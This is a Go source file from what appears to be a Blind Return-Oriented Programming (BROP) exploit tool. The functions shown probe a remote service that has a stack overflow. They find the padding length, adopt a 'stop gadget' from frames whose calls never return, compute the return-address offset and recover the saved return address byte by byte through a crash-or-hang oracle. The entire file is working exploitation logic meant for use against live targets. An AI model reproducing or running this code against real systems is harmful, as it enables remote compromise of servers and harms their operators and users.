package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
)

// computePaddingLength walks 8-byte frames past base until one of them
// comes back Infinite instead of readable: that frame is itself a
// gadget address whose call never returns, so it's adopted as the stop
// gadget as a side effect, exactly as the original find_padding_length
// does, and the byte count accumulated before it is the padding length.
func (s *Session) computePaddingLength(base []byte) (int, bool) {
	paddingLength := 8
	working := append([]byte(nil), base...)

	for {
		f, infinite, ok := oracle.ReadFrame(s.transport, working)
		if !ok {
			return 0, false
		}
		if !infinite {
			paddingLength += 8
			working = cluster.Append(working, cluster.FrameCluster(f))
			continue
		}
		g := cluster.GadgetFromFrame(f)
		s.stopGadget = &g
		return paddingLength - 8, true
	}
}

// computeReturnAddressOffset adds the overflow length, 8 more if a
// canary is present, and the padding length together (C6).
func (s *Session) computeReturnAddressOffset() (int, bool) {
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return 0, false
	}
	offset := overflow
	if s.HasCanary() {
		offset += 8
	}

	base := s.payloadThroughCanary(overflow)
	paddingLength, ok := s.computePaddingLength(base)
	if !ok {
		return 0, false
	}
	return offset + paddingLength, true
}

// computePadding reads exactly as many bytes as sit between the canary
// and the return address, now that both offsets are known (C6).
func (s *Session) computePadding() (cluster.Word, bool) {
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return nil, false
	}
	base := s.payloadThroughCanary(overflow)
	offset, ok := s.GetReturnAddressOffset()
	if !ok {
		return nil, false
	}

	paddingLength := offset - len(base)
	word, infinite, readOK := oracle.ReadWord(s.transport, base, paddingLength)
	if !readOK || infinite {
		return nil, false
	}
	return word, true
}

// payloadTillReturnAddress builds the payload up to, but not including,
// the return address itself.
func (s *Session) payloadTillReturnAddress(overflow int) ([]byte, bool) {
	base := s.payloadThroughCanary(overflow)
	padding, ok := s.GetPadding()
	if !ok {
		return nil, false
	}
	return cluster.Append(append([]byte(nil), base...), cluster.WordCluster(padding)), true
}

// computePossibleReturnAddress recovers the saved return address one
// byte at a time, 8 bytes in all. Any byte whose probe comes back Infinite belongs to
// a stop-gadget-style address too, so the search resumes one guess past
// it instead of treating it as the answer (C6).
func (s *Session) computePossibleReturnAddress() (cluster.Frame, bool) {
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return cluster.Frame{}, false
	}
	base, ok := s.payloadTillReturnAddress(overflow)
	if !ok {
		return cluster.Frame{}, false
	}

	var addr []byte
	for i := 0; i < 8; i++ {
		send := cluster.Append(append([]byte(nil), base...), cluster.WordCluster(cluster.Word(addr)))

		start := byte(0)
		for {
			b, infinite, readOK := oracle.ReadByteFrom(s.transport, start, send)
			if !readOK {
				return cluster.Frame{}, false
			}
			if !infinite {
				addr = append(addr, b)
				break
			}
			if b == 0xFF {
				return cluster.Frame{}, false
			}
			start = b + 1
		}
	}

	return cluster.FrameFromBytes(addr), true
}
